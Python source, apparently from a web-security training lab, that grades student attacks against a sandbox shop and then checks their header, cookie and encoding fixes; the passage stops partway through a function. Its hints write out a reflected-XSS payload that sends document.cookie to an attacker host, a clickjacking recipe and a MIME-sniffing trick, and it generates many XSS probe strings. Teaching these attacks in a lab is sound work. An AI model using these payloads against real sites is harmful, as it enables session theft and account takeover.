"""12-headers: steal a cookie, frame a page, sniff an upload, read a Referer — then head it off.

The attacks are judged in headless Chromium (:mod:`labkit.attacks.xss`): a victim logs in
and falls for the attack; the check looks at what the attacker's site received. Without
Chromium the probes fall back to a labelled SIMULATION (the standards' algorithms over
HTTP), and every verdict says so; under ``CI=true`` a simulated verdict is a failure, so
CI proves the browser path. Headers are read by parsing them (CSP directives and sources,
HSTS ``max-age``, the last valid Referrer-Policy token), never by substring, and graded by
the MDN HTTP Observatory's rules (:mod:`labkit.attacks.observatory`).
"""

from __future__ import annotations

import dataclasses
import os
import random
import re
import string
from collections.abc import Callable, Mapping, Sequence
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, urlsplit

import httpx

from labkit.attacks import observatory, xss
from labkit.attacks.observatory import parse_set_cookie
from labkit.attacks.xss import Probe
from labkit.exercises.check import CheckContext, Findings, Target, Verdict
from labkit.exercises.registry import LabDefinition
from labkit.exercises.rules import Rule, merge_rules

if TYPE_CHECKING:
    from playwright.sync_api import Browser

__all__ = ["LAB", "OBSERVATORY_MINIMUM", "grade"]

LAB = LabDefinition(
    "12-headers", "12 · Security headers and CSP", "labkit.sandbox.apps.headers", uses_browser=True
)

#: A grade of A or better (MDN HTTP Observatory chart): 90 points.
OBSERVATORY_MINIMUM = 90
#: The Observatory's "six months" (15768000, rounded down as its analyzer does).
HSTS_MINIMUM = 15_552_000
PRIVATE_REFERRER = observatory.REFERRER_PRIVATE
FOREIGN = "https://evil.example"
SELF_ONLY = frozenset({"'self'", "'none'"})
LEGIT_LOGIN = "legitimate login"
NONCE_REPLAY = "XSS carrying the page's own CSP nonce"
LEGIT_QUERIES = ("<b>tea</b>", "Pride & Prejudice", 'Tom\'s "best" café ☕')


# -- plumbing --------------------------------------------------------------------------------
def _attacker(target: Target) -> str:
    return target.urls.get("attacker", "")


def _fault(response: httpx.Response) -> str:
    try:
        fault = response.json().get("labkitFault", "")
    except (ValueError, AttributeError):
        return ""
    return f" — {fault}" if fault else ""


def _ci() -> bool:
    return os.environ.get("CI", "").strip().lower() in {"true", "1"}


def _probes(
    work: Callable[[Browser], list[Probe]], simulate: Callable[[], list[Probe]], findings: Findings
) -> list[Probe]:
    """Run the probes in Chromium, or (no Chromium) their SIMULATION — said in the verdict."""
    probes = xss.browser_or_simulation(work, simulate, timeout=180)
    if any(p.simulated for p in probes):
        if _ci():
            findings.fail("CI=true: no Chromium found, and CI must judge in a real browser")
        findings.saw(
            "judged by SIMULATION: no Chromium here (labkit doctor says how to install one); "
            "the verdict follows the standards' algorithms, not a real browser"
        )
    return probes


def _victim(target: Target) -> tuple[str, str]:
    with target.client() as client:
        victim = client.get("/api/_lab/victim").json()
    return victim["email"], victim["password"]


def _login(client: httpx.Client, target: Target) -> httpx.Response:
    email, password = _victim(target)
    return client.post("/api/auth/login", json={"email": email, "password": password})


# -- rules -----------------------------------------------------------------------------------
HEADER_RULES = (
    Rule(
        "csp-scripts",
        "Content-Security-Policy allows scripts from the page's own origin only: `script-src "
        "'self'` (or `default-src 'self'`) — no `'unsafe-inline'`, no `'unsafe-eval'`, no "
        "other origin, `*`, `https:` or `data:`. (`'unsafe-inline'` beside a nonce is "
        "accepted: CSP3 browsers ignore it there.)",
    ),
    Rule(
        "csp-nonce",
        "If the CSP carries a nonce (`'nonce-…'`), a fresh one for every response, at least "
        "128 bits of randomness, base64 (22+ characters): a fixed nonce lets an injected "
        "`<script nonce=…>` run.",
    ),
    Rule(
        "csp-defaults",
        "CSP `default-src 'self'` (or `'none'`), `object-src 'none'` (or a default-src that "
        "says so), `base-uri 'none'` (or `'self'`) and `form-action 'self'` (or `'none'`).",
    ),
    Rule(
        "no-framing",
        "No other site may frame the page: CSP `frame-ancestors 'none'` (or `'self'`); "
        "`X-Frame-Options: DENY` (or `SAMEORIGIN`) alone is accepted too, and is what old "
        "browsers read. A frame-ancestors that allows another origin wins over X-Frame-Options.",
    ),
    Rule(
        "nosniff",
        "`X-Content-Type-Options: nosniff` — exactly that value, on every response (pages, "
        "API answers, files, errors).",
    ),
    Rule(
        "referrer",
        "`Referrer-Policy: strict-origin-when-cross-origin` or stricter (no-referrer, "
        "same-origin, strict-origin) — never `unsafe-url`, `no-referrer-when-downgrade`, "
        "`origin` or `origin-when-cross-origin`.",
    ),
    Rule(
        "hsts-https-only",
        "`Strict-Transport-Security` only when `https` is True — never over plain HTTP "
        "(RFC 6797 §7.2).",
    ),
    Rule(
        "hsts-max-age",
        f"Over HTTPS, one Strict-Transport-Security with one numeric `max-age` of at least "
        f"{HSTS_MINIMUM} (six months; the reference sends 31536000).",
    ),
    Rule(
        "isolation",
        "`Cross-Origin-Opener-Policy: same-origin` and `Cross-Origin-Resource-Policy: "
        "same-origin` (or `same-site`).",
    ),
    Rule(
        "site-works",
        "The shop still works in the browser: the login page's own script "
        "(`/static/login.js`) runs and alice reaches /profile.",
    ),
)
COOKIE_RULES = (
    Rule("cookie-httponly", "`httponly=True`: no script can read the session cookie."),
    Rule("cookie-secure", "`secure=True`: the cookie never travels over plain HTTP."),
    Rule(
        "cookie-samesite",
        "`samesite='lax'` or `'strict'`: other sites' requests do not carry it.",
    ),
    Rule(
        "cookie-works",
        "alice still logs in through the site's form and /profile knows her: `path='/'`, "
        "and no `max_age`/`expires` that ends the cookie at once.",
    ),
)
ENCODING_RULES = (
    Rule(
        "encode-element",
        "Encode `<`, `>` and `&` so that no input ever becomes markup: no new element, "
        "whatever the tag, case or spacing (`<svg onload>`, `<ImG/src=x onerror>`, "
        "`<a href=javascript:…>` — not a blocklist of `<script>`).",
    ),
    Rule(
        "encode-attribute",
        'Encode `"` and `\'` too: the page puts input into `value="…"` and into '
        "`data-query='…'`, where a quote would end the attribute and start the attacker's.",
    ),
    Rule(
        "encode-once",
        "Searches show exactly as typed: encode once, drop nothing (`Tom & Jerry` is not "
        "`Tom &amp; Jerry`, `<b>tea</b>` is not `tea`).",
    ),
)


# -- header battery --------------------------------------------------------------------------
Problem = tuple[str, str]  # (rule id, what is wrong)
_NONCE = re.compile(r"'nonce-([^']*)'", re.IGNORECASE)
_BASE64 = re.compile(r"[A-Za-z0-9+/_-]+=*")
NONCE_MIN_CHARS = 22  # 128 bits in base64


def _foreign_scripts(rng: random.Random) -> list[str]:
    """Script URLs of other origins: random hosts, ports and schemes, and a data: URL."""
    host = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(4, 9)))
    port = rng.choice(["", f":{rng.randint(1025, 65000)}"])
    return [
        f"{FOREIGN}/x.js",
        f"https://{host}.example{port}/{host}.js",
        f"http://cdn.{host}.test/app.js",
        "data:text/javascript,alert(1)",
    ]


def _csp_problems(values: Sequence[str], origin: str, foreign: Sequence[str]) -> list[Problem]:
    if not values:
        return [("csp-scripts", "no Content-Security-Policy header")]
    policies = xss.parse_policies(values)
    problems = []
    if not any(
        set(p.get("default-src", ["*"])) <= SELF_ONLY and "default-src" in p for p in policies
    ):
        problems.append(("csp-defaults", "CSP: default-src must be 'self' (or 'none')"))
    if xss.csp_allows(policies, "inline", origin):
        why = "'unsafe-inline' and no nonce in script-src/default-src, or neither directive"
        problems.append(("csp-scripts", f"CSP: inline scripts are allowed ({why})"))
    allowed = [url for url in foreign if xss.csp_allows(policies, "script", origin, url)]
    if allowed:
        problems.append(("csp-scripts", f"CSP: scripts from {allowed[0][:60]} are allowed"))
    if any("'unsafe-eval'" in p.get("script-src", p.get("default-src", [])) for p in policies):
        problems.append(("csp-scripts", "CSP: script-src allows 'unsafe-eval'"))
    objects = [p.get("object-src", p.get("default-src")) for p in policies]
    if not any(o is not None and set(o) <= SELF_ONLY for o in objects):
        problems.append(("csp-defaults", "CSP: object-src (or default-src) must be 'none'"))
    for directive, fine in (("base-uri", SELF_ONLY), ("form-action", SELF_ONLY)):
        if not any(set(p.get(directive, ["*"])) <= fine and directive in p for p in policies):
            problems.append(("csp-defaults", f"CSP: no {directive} 'none' or 'self' (it "
                             "does not fall back to default-src)"))  # fmt: skip
    return problems


def _framing_problems(headers: httpx.Headers, origin: str) -> list[Problem]:
    policies = xss.parse_policies(headers.get_list("content-security-policy"))
    if any("frame-ancestors" in p for p in policies):
        if xss.csp_allows(policies, "frame-ancestor", origin, FOREIGN + "/"):
            return [("no-framing", "CSP: frame-ancestors lets other origins frame this page")]
        return []
    xfo = [v.strip().lower() for v in headers.get_list("x-frame-options")]
    if xfo not in (["deny"], ["sameorigin"]):
        shown = headers.get("x-frame-options")
        why = f"no CSP frame-ancestors, and X-Frame-Options is {shown!r}, not DENY or SAMEORIGIN"
        return [("no-framing", why + ": any site may frame this page")]
    return []


def _hsts_problems(values: Sequence[str], https: bool) -> list[Problem]:
    if not https:  # RFC 6797 §7.2: never over plain HTTP
        if values:
            return [("hsts-https-only", "Strict-Transport-Security sent over plain HTTP")]
        return []
    if len(values) != 1:
        return [("hsts-max-age", f"Strict-Transport-Security over HTTPS: expected one "
                 f"header, got {len(values)}")]  # fmt: skip
    ages = []
    for directive in values[0].split(";"):
        name, _, value = directive.strip().partition("=")
        if name.strip().lower() == "max-age":
            ages.append(value.strip().strip('"'))
    if len(ages) != 1 or not ages[0].isdigit():
        return [("hsts-max-age", f"Strict-Transport-Security needs exactly one numeric "
                 f"max-age: {values[0]!r}")]  # fmt: skip
    if int(ages[0]) < HSTS_MINIMUM:
        return [("hsts-max-age", f"Strict-Transport-Security max-age={ages[0]} is under six "
                 f"months ({HSTS_MINIMUM})")]  # fmt: skip
    return []


def _header_problems(
    response: httpx.Response, https: bool, origin: str, foreign: Sequence[str]
) -> list[Problem]:
    headers = response.headers
    problems = _csp_problems(headers.get_list("content-security-policy"), origin, foreign)
    problems += _framing_problems(headers, origin)
    nosniff = headers.get_list("x-content-type-options")
    if [v.strip().lower() for v in nosniff] != ["nosniff"]:
        problems.append(("nosniff", f"X-Content-Type-Options must be exactly nosniff, got "
                         f"{nosniff or None}"))  # fmt: skip
    tokens = [t.strip().lower() for v in headers.get_list("referrer-policy") for t in v.split(",")]
    valid = [t for t in tokens if t in xss.REFERRER_POLICIES]  # the last valid one applies
    if not valid or valid[-1] not in PRIVATE_REFERRER:
        got = headers.get("referrer-policy")
        why = f"Referrer-Policy must be one of {', '.join(PRIVATE_REFERRER)}, got {got!r}"
        problems.append(("referrer", why))
    problems += _hsts_problems(headers.get_list("strict-transport-security"), https)
    if headers.get("cross-origin-opener-policy", "").strip().lower() != "same-origin":
        problems.append(("isolation", "Cross-Origin-Opener-Policy must be same-origin"))
    corp = headers.get("cross-origin-resource-policy", "").strip().lower()
    if corp not in ("same-origin", "same-site"):
        problems.append(("isolation", "Cross-Origin-Resource-Policy must be same-origin "
                         "(or same-site)"))  # fmt: skip
    return problems


def nonces(response: httpx.Response) -> list[str]:
    """The nonces of a response's CSP script-src (or default-src), as sent (case kept)."""
    found = []
    for value in response.headers.get_list("content-security-policy"):
        for policy in value.split(","):
            for directive in policy.split(";"):
                parts = directive.split()
                if parts and parts[0].lower() in ("script-src", "default-src", "script-src-elem"):
                    found += [m.group(1) for m in map(_NONCE.fullmatch, parts[1:]) if m]
    return found


def _nonce_battery(target: Target, findings: Findings) -> list[str]:
    """Nonces must be fresh per response and long; returns the nonces seen (empty: none)."""
    with target.client() as client:
        responses = [client.get(path) for path in ("/", "/", "/login", "/?q=tea", "/profile")]
    seen = [nonces(r) for r in responses]
    flat = [n for found in seen for n in found]
    if not flat:
        return []
    with findings.rule("csp-nonce"):
        findings.expect(
            all(seen),
            "some responses carry a CSP nonce and some none: a nonce is per response",
        )
        findings.expect(
            len(set(flat)) == len(flat),
            f"the CSP nonce {flat[0][:24]!r} came back on another response: a fixed nonce is "
            "a password printed on every page",
            f"{len(flat)} responses, {len(set(flat))} different nonces",
        )
        short = [n for n in flat if len(n) < NONCE_MIN_CHARS or not _BASE64.fullmatch(n)]
        findings.expect(
            not short,
            f"the CSP nonce {short[0][:24] if short else ''!r} is not base64 of at least "
            f"128 bits ({NONCE_MIN_CHARS}+ characters)",
        )
    return flat


def _https_client(target: Target) -> httpx.Client:
    """A client for the app's HTTPS twin, trusting the lab's CA (fetched as plain data)."""
    with target.client() as client:
        ca = client.get("/api/_lab/ca.pem").text
    return Target(target.urls["https"], ca_pem=ca).client()


def _header_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    """Every kind of response, over HTTP and over HTTPS (the app's TLS twin)."""
    foreign = _foreign_scripts(rng)
    with target.client() as plain, _https_client(target) as tls:
        login = _login(plain, target)
        if not findings.expect(
            login.status_code == 200, f"the victim could not log in: {login.status_code}"
        ):
            return
        bearer = {"Authorization": f"Bearer {login.json()['accessToken']}"}
        upload = plain.post(
            "/api/uploads", json={"filename": "a.txt", "content": "hello"}, headers=bearer
        )
        paths = ["/", "/?q=tea", "/profile", "/login", "/static/login.js", "/static/site.css",
                 "/api/profile", "/no-such-page"]  # fmt: skip
        if upload.status_code == 201:
            paths.append(upload.json()["url"])
        seen: dict[Problem, list[str]] = {}
        for path in paths:
            for https, client in ((False, plain), (True, tls)):
                response = client.get(path)
                if response.status_code == 500:
                    findings.fail(f"GET {path} answered 500{_fault(response)}")
                    return
                for problem in _header_problems(response, https, target.url, foreign):
                    seen.setdefault(problem, []).append(path + (" (https)" if https else ""))
    for (rule, problem), where in seen.items():
        more = " …" if len(where) > 3 else ""
        findings.fail(f"{problem} — on {', '.join(where[:3])}{more}", rule=rule)
    findings.saw(f"{len(paths)} routes, over HTTP and HTTPS: every header parsed and checked")


def grade(target: Target, *, with_login: bool = False) -> observatory.ObservatoryReport:
    """The app's HTTPS twin graded by the MDN HTTP Observatory's rules (and, ``with_login``,
    the cookie its login sets)."""
    with _https_client(target) as client:
        more = [_login(client, target)] if with_login else []
        return observatory.scan(target.urls["https"] + "/", more=more, client=client)


def _grade(target: Target, findings: Findings, *, with_login: bool) -> None:
    report = grade(target, with_login=with_login)
    failed = [t for t in report.tests if t.modifier < 0]
    summary = f"MDN HTTP Observatory rules: {report.summary()}"
    findings.expect(
        report.score >= OBSERVATORY_MINIMUM,
        f"{summary}; an A needs {OBSERVATORY_MINIMUM}. Penalties: "
        + "; ".join(f"{t.test} {t.modifier:+d} ({t.result})" for t in failed),
        summary + (" (login cookies graded too)" if with_login else ""),
    )


# -- legitimate flows --------------------------------------------------------------------------
class _Page(HTMLParser):
    """The search page's shape: (tag, attribute names) in order, the input's value, the results
    list's data-query and the results heading's text, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.value: str | None = None
        self.query: str | None = None
        self.heading = ""
        self._in_heading = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(name for name, _ in attrs))))
        attributes = dict(attrs)
        if tag == "input" and attributes.get("id") == "q":
            self.value = attributes.get("value")
        if tag == "ul" and "data-query" in attributes:
            self.query = attributes.get("data-query")
        self._in_heading = tag == "h2" and attributes.get("id") == "results-for"

    def handle_endtag(self, tag: str) -> None:
        if tag == "h2":
            self._in_heading = False

    def handle_data(self, data: str) -> None:
        if self._in_heading:
            self.heading += data


def _parse(client: httpx.Client, q: str) -> tuple[httpx.Response, _Page]:
    response = client.get("/", params={"q": q})
    page = _Page()
    page.feed(response.text)
    return response, page


_TAGS = (
    ("img", "src=x onerror"), ("svg", "onload"), ("details", "open ontoggle"),
    ("video", "src=x onerror"), ("body", "onload"), ("input", "autofocus onfocus"),
    ("iframe", "srcdoc=x onload"), ("marquee", "onstart"), ("script", ""),
)  # fmt: skip


def _mixed_case(rng: random.Random, word: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c for c in word)


def encoding_payloads(rng: random.Random, marker: str) -> list[tuple[str, str]]:
    """(rule, payload) pairs: markup of many shapes (element context) and quote breakouts
    (attribute context), each setting ``window[marker]`` if it ever ran."""
    code = f"window.{marker}=1"
    payloads = []
    for tag, attrs in rng.sample(_TAGS, 4):
        name = _mixed_case(rng, tag)
        if tag == "script":
            payloads.append(f"<{name}>{code}</{name}>")
        else:
            space = rng.choice([" ", "/", "\t", "\n"])
            handler = attrs.split()[-1]
            rest = " ".join(attrs.split()[:-1])
            payloads.append(f"<{name}{space}{rest}{space if rest else ''}{handler}={code}>")
    payloads.append(f'<a href="javascript:{code}">{_mixed_case(rng, "click")}</a>')
    payloads.append(f'"><{_mixed_case(rng, "svg")} onload={code}>')
    element = [("encode-element", p) for p in payloads]
    attribute = [
        ("encode-attribute", f'" autofocus onfocus={code} x="'),
        ("encode-attribute", f"' tabindex=1 autofocus onfocus={code} x='"),
        ("encode-attribute", rng.choice(['"', "'"]) + f" onmouseover={code} "),
    ]
    return element + attribute


def _legit_queries(rng: random.Random) -> list[str]:
    """What readers type: markup as text, ampersands, both quotes, non-ASCII; one generated."""
    made = "".join(rng.choice("<>&\"' ab;#=/") for _ in range(12)).strip() or "a&b"
    return [*LEGIT_QUERIES, made, "&amp; &lt;b&gt;"]


def _encoding_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    """Payloads must leave the page's shape alone; legitimate text must round-trip exactly."""
    with target.client() as client:
        _, baseline = _parse(client, f"zz{rng.getrandbits(24):06x}")
        for rule, payload in encoding_payloads(rng, f"labkitProbe{rng.getrandbits(16)}"):
            response, page = _parse(client, payload)
            if response.status_code != 200:
                findings.fail(f"the search for {payload!r} answered {response.status_code}"
                              f"{_fault(response)}", rule=rule)  # fmt: skip
                continue
            findings.expect(
                page.shape == baseline.shape,
                f"searching {payload!r} changed the page's HTML (new elements or attributes): "
                "it is not encoded for that context",
                rule=rule,
            )
        for q in _legit_queries(rng):
            response, page = _parse(client, q)
            findings.expect(
                page.value == q and page.query == q and page.heading == f"Results for {q}",
                f"searching {q!r} does not show it as typed (input value {page.value!r}, "
                f"heading {page.heading!r}): not encoded, encoded twice, or cut",
                rule="encode-once",
            )
        tea = client.get("/", params={"q": "tea"}).text
        findings.expect(
            "The Book of Tea" in tea,
            "searching 'tea' no longer finds The Book of Tea",
            rule="encode-once",
        )
    findings.saw("payloads in element and attribute context stayed text; searches show as typed")


def _browser_login(
    browser: Browser, victim_url: str, email: str, password: str
) -> tuple[str, bool]:
    """Log in through the site's own form and script: (the email /profile then shows, whether
    the script took her to /profile at all — if it did, a missing email is the cookie's fault)."""
    ctx = browser.new_context()
    reached = False
    refused: list[str] = []
    try:
        page = ctx.new_page()
        page.on("console", lambda m: refused.append(m.text) if "login.js" in m.text else None)
        page.goto(victim_url + "/login")
        page.fill("input[name=email]", email)
        page.fill("input[name=password]", password)
        page.click("#submit")
        for _ in range(400):  # up to 10 s, unless the browser refused the site's script
            if page.url.startswith(victim_url + "/profile") or refused:
                break
            page.wait_for_timeout(25)
        reached = page.url.startswith(victim_url + "/profile")
        if not reached:
            return f"(no profile: {refused[0][:160] if refused else 'timed out'})", False
        page.wait_for_load_state()
        element = page.query_selector("#email")
        shown = (element.text_content() or "") if element else "(not logged in)"
    except Exception as exc:  # a browser error: judged as a failed login
        shown = f"(no profile: {type(exc).__name__})"
    finally:
        ctx.close()
    return shown, reached


def _login_flow_probe(target: Target) -> Callable[[Browser], Probe]:
    email, password = _victim(target)

    def work(browser: Browser) -> Probe:
        shown, reached = _browser_login(browser, target.url, email, password)
        ok = shown == email
        if ok or reached:
            evidence = f"/profile shows {shown!r}" + ("" if ok else ": the cookie did not stick")
        else:
            evidence = f"the login page's script never reached /profile {shown}"
        data = {"cookie": reached and not ok}
        return Probe(LEGIT_LOGIN, ok, evidence, f"Chromium {browser.version}", data)

    return work


def _login_flow_simulated(target: Target) -> Probe:
    with target.client() as client:
        login = _login(client, target)
        cookies = [parse_set_cookie(c) for c in login.headers.get_list("set-cookie")]
        script = client.get("/static/login.js")
        ok = login.status_code == 200 and any(c.name == "session" for c in cookies)
        ok = ok and not xss.mime_blocks_script(script.headers)
        token = login.json().get("accessToken", "") if ok else ""
        profile = client.get("/profile", headers={"Cookie": f"session={token}"})
        ok = ok and profile.status_code == 200
    evidence = f"/profile answered {profile.status_code}"
    return Probe(LEGIT_LOGIN, ok, evidence, xss.SIMULATION, {"cookie": not ok and bool(token)})


def _expect_blocked(findings: Findings, probes: Sequence[Probe], rules: Mapping[str, str]) -> None:
    """Each attack probe must fail and each legitimate one succeed; ``rules`` names the rule
    each probe stands for (by its attack name)."""
    for probe in probes:
        rule = rules.get(probe.attack)
        if probe.attack == LEGIT_LOGIN and probe.data.get("cookie"):
            rule = "cookie-works"  # the script ran and took her to /profile: no cookie there
        if probe.attack == LEGIT_LOGIN:
            findings.expect(
                probe.succeeded, f"{probe.attack} broke: {probe.evidence}", repr(probe), rule=rule
            )
        else:
            findings.expect(not probe.succeeded, f"{probe!r}", repr(probe), rule=rule)


def _nonce_replay_url(target: Target, seen: Sequence[str]) -> str:
    """The cookie stealer as an inline script carrying the nonce just observed."""
    payload = xss.cookie_stealer(_attacker(target)).replace(
        "<script>", f'<script nonce="{seen[-1]}">', 1
    )
    return xss.search_url(target.url, payload)


# -- attacks ----------------------------------------------------------------------------------
def _answer_url(ctx: CheckContext) -> str | Verdict:
    answer = ctx.answer
    if not isinstance(answer, str) or not answer.startswith(ctx.target.url + "/"):
        return Verdict(False, f"expected a URL on the lab app ({ctx.target.url}/...), "
                              f"got {type(answer).__name__}")  # fmt: skip
    return answer


@LAB.check(
    "steal-cookie",
    title="Steal the victim's session cookie with a reflected XSS link",
    kind="attack",
    hints=(
        "The search page prints q twice without encoding. Try lab.client.get('/', "
        "params={'q': '<b>hi</b>'}).text: any markup you type becomes the page's markup. "
        "Hand in a search link on the shop: the victim, logged in, opens it.",
        'payload = "<script>location = \'" + ATTACKER + "/steal?c=\' + '
        "encodeURIComponent(document.cookie)</script>\"; url = SHOP + '/?q=' + "
        "urllib.parse.quote(payload, safe='')",
        "The ready-made pieces: from labkit.attacks import xss; "
        "xss.search_url(SHOP, xss.cookie_stealer(ATTACKER))",
    ),
    answer_help="a URL on the lab app that the victim opens",
)
def steal_cookie(ctx: CheckContext) -> Verdict:
    url = _answer_url(ctx)
    if isinstance(url, Verdict):
        return url
    findings = Findings()
    victim, attacker = ctx.target.url, _attacker(ctx.target)
    (probe,) = _probes(
        lambda b: [xss.steal_cookie(victim, attacker, url, browser=b)],
        lambda: [xss.simulate_steal_cookie(victim, url)],
        findings,
    )
    findings.expect(probe.succeeded, repr(probe), repr(probe))
    if probe.succeeded and not probe.simulated:
        with ctx.target.client() as client:
            profile = client.get(
                "/api/profile", headers={"Cookie": f"session={probe.data['cookie']}"}
            )
        findings.expect(
            profile.status_code == 200,
            "the stolen cookie does not open the victim's account",
            f"with the stolen cookie, /api/profile answers as {profile.json().get('email')}",
        )
    return findings.verdict(
        "the victim's session cookie reached the attacker's site",
        "the attacker's site did not receive the victim's session cookie",
    )


@LAB.check(
    "clickjack",
    title="Make the victim click the profile's hidden button through a frame",
    kind="attack",
    hints=(
        "lab.client.get('/static/site.css').text says where #share sits on /profile. Hand in "
        "the page's HTML; the check hosts it on the attacker's site and the victim clicks "
        "#prize.",
        "An <iframe src=target> with position:absolute; top:0; left:0; opacity:0.05; "
        "z-index:2 over a <button id='prize'> with position:absolute at #share's top/left "
        "and z-index:1: the click lands on the frame.",
        "The ready-made page: from labkit.attacks import xss; "
        "xss.clickjack_page(SHOP + '/profile', top=..., left=...)",
    ),
    answer_help="the HTML of your attacker page (with a #prize element to click)",
)
def clickjack(ctx: CheckContext) -> Verdict:
    if not isinstance(ctx.answer, str) or "<iframe" not in ctx.answer.lower():
        return Verdict(False, "expected the HTML of an attacker page with an <iframe>")
    attacker = _attacker(ctx.target)
    with httpx.Client(base_url=attacker, trust_env=False, timeout=30) as client:
        hosted = client.post("/api/_lab/pages", json={"html": ctx.answer})
    if hosted.status_code != 200:
        return Verdict(False, f"the attacker's site refused the page: {hosted.text[:120]}")
    page_url = attacker + hosted.json()["url"]
    findings = Findings()
    victim = ctx.target.url
    (probe,) = _probes(
        lambda b: [xss.clickjack(victim, attacker, page_url, browser=b)],
        lambda: [xss.simulate_clickjack(victim, page_url)],
        findings,
    )
    done = (
        probe.data.get("rendered", False) if probe.simulated else probe.data.get("clicked_through")
    )
    findings.expect(bool(done), repr(probe), repr(probe))
    return findings.verdict(
        "the victim's own click changed her profile, through your frame",
        "the click did not go through to the framed page",
    )


@LAB.check(
    "sniff-upload",
    title="Run an uploaded text file as a script, past script-src 'self'",
    kind="attack",
    hints=(
        "The check adds script-src 'self' to the app's pages: only same-origin files run, "
        "and uploads are same-origin. Upload JavaScript as a .txt file: POST /api/uploads "
        "{filename, content} (log in first); the app serves it as text/plain.",
        'Put <script src="/uploads/..."></script> into the search box: no inline code. '
        "Hand in that search link.",
        "The ready-made pieces: from labkit.attacks import xss; xss.stealer_code(ATTACKER) "
        "is the file's content, xss.search_url(SHOP, xss.script_include(upload_url)) the link.",
    ),
    answer_help="a URL on the lab app whose page includes your upload with <script src>",
)
def sniff_upload(ctx: CheckContext) -> Verdict:
    url = _answer_url(ctx)
    if isinstance(url, Verdict):
        return url
    findings = Findings()
    victim, attacker = ctx.target.url, _attacker(ctx.target)
    policy = "script-src 'self'"
    (probe,) = _probes(
        lambda b: [xss.steal_cookie(victim, attacker, url, extra_csp=policy, browser=b)],
        lambda: [xss.simulate_steal_cookie(victim, url, extra_csp=policy)],
        findings,
    )
    findings.expect(probe.succeeded, repr(probe), repr(probe))
    with ctx.target.client() as client:
        page = client.get(url)
    uploads = [s for s in _script_sources(page.text) if urlsplit(s).path.startswith("/uploads/")]
    findings.expect(
        bool(uploads),
        "the page includes no /uploads/ file with <script src>",
        f"under script-src 'self' (added by the check) the browser ran {uploads[:1]}, "
        "served as text/plain without nosniff",
    )
    return findings.verdict(
        "a text/plain upload ran as a script on the app's origin",
        "no uploaded file ran as a script",
    )


class _ScriptSources(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        src = dict(attrs).get("src")
        if tag == "script" and src:
            self.found.append(src)


def _script_sources(html: str) -> list[str]:
    parser = _ScriptSources()
    parser.feed(html)
    return parser.found


@LAB.check(
    "referer-leak",
    title="Read the victim's password-reset token from a Referer",
    kind="attack",
    hints=(
        "With no-referrer-when-downgrade the browser tells the help centre the full URL alice "
        "came from: her reset link, token included. Hand in that token.",
        "The token is the ?token= of the Referer URL: "
        "parse_qs(urlsplit(referer).query)['token'][0].",
        "The help centre's log: from labkit.attacks import xss; "
        "xss.loot(ATTACKER, 'referer')[-1]['value'] is the last Referer it received.",
    ),
    answer_help="the reset token (a string)",
)
def referer_leak(ctx: CheckContext) -> Verdict:
    token = ctx.answer
    if not isinstance(token, str) or not token:
        return Verdict(False, f"expected the reset token as a string, got {type(token).__name__}")
    referers = [e["value"] for e in xss.loot(_attacker(ctx.target), "referer")]
    leaked = [r for r in referers if parse_qs(urlsplit(r).query).get("token") == [token]]
    findings = Findings()
    findings.expect(
        bool(leaked),
        "this token never reached the help centre in a Referer",
        f"the help centre received it in Referer: {leaked[0][:80] if leaked else ''}",
    )
    with ctx.target.client() as client:
        status = client.get(f"/api/auth/reset/{token}")
    findings.expect(
        status.status_code == 200,
        "the token is not (or no longer) a valid reset token",
        f"it resets the password of {status.json().get('email', '?')}",
    )
    return findings.verdict(
        "the reset token leaked to a third party in the Referer",
        "the token did not leak through a Referer, or is not valid",
    )


# -- fixes ------------------------------------------------------------------------------------
PROBE_RULES = {
    "reflected XSS cookie theft": "csp-scripts",
    NONCE_REPLAY: "csp-nonce",
    "clickjacking": "no-framing",
    "MIME sniffing": "nosniff",
    "Referer leak": "referrer",
    LEGIT_LOGIN: "site-works",
}


def _header_probes(patched: Target, findings: Findings, seen_nonces: Sequence[str]) -> list[Probe]:
    """Attacks 1–4 in alice's browser, the nonce replay (when the CSP has nonces), and her
    login through the site's own form."""
    victim, attacker = patched.url, _attacker(patched)
    url = xss.search_url(victim, xss.cookie_stealer(attacker))
    replay = _nonce_replay_url(patched, seen_nonces) if seen_nonces else None
    login = _login_flow_probe(patched)

    def work(b: Browser) -> list[Probe]:
        with xss.victim_session(b, victim) as session:  # alice's browser, logged in once
            probes = [
                xss.steal_cookie(victim, attacker, url, browser=b, session=session),
                xss.clickjack(victim, attacker, browser=b, session=session),
                xss.sniff_upload(victim, browser=b, session=session),
                xss.referer_leak(victim, attacker, browser=b, session=session),
            ]
        probes.append(login(b))  # a profile of its own: the login must set the cookie
        if replay is not None:
            stolen = xss.steal_cookie(victim, attacker, replay, browser=b)
            probes.append(dataclasses.replace(stolen, attack=NONCE_REPLAY))
        return probes

    def simulate() -> list[Probe]:
        return [
            xss.simulate_steal_cookie(victim, url),
            xss.simulate_clickjack(victim, attacker + "/"),
            xss.simulate_sniff_upload(victim),
            xss.simulate_referer_leak(victim),
            _login_flow_simulated(patched),
        ]

    return _probes(work, simulate, findings)


@LAB.check(
    "headers",
    title="One middleware: CSP, nosniff, Referrer-Policy, HSTS over HTTPS, COOP/CORP",
    kind="fix",
    fixes=("security_headers",),
    hints=(
        "Return a dict of header name -> value; add Strict-Transport-Security only when "
        "https is True (RFC 6797 §7.2).",
        "CSP: default-src 'self', script-src 'self' (no 'unsafe-inline'), object-src 'none', "
        "base-uri 'none', form-action 'self', frame-ancestors 'none'.",
        "Referrer-Policy: strict-origin-when-cross-origin; X-Content-Type-Options: nosniff; "
        "Cross-Origin-Opener-Policy and -Resource-Policy: same-origin.",
    ),
    rules=HEADER_RULES,
)
def headers(ctx: CheckContext) -> Verdict:
    patched = ctx.require_patched()
    findings = Findings()
    _header_battery(patched, findings, ctx.rng)
    seen = _nonce_battery(patched, findings)
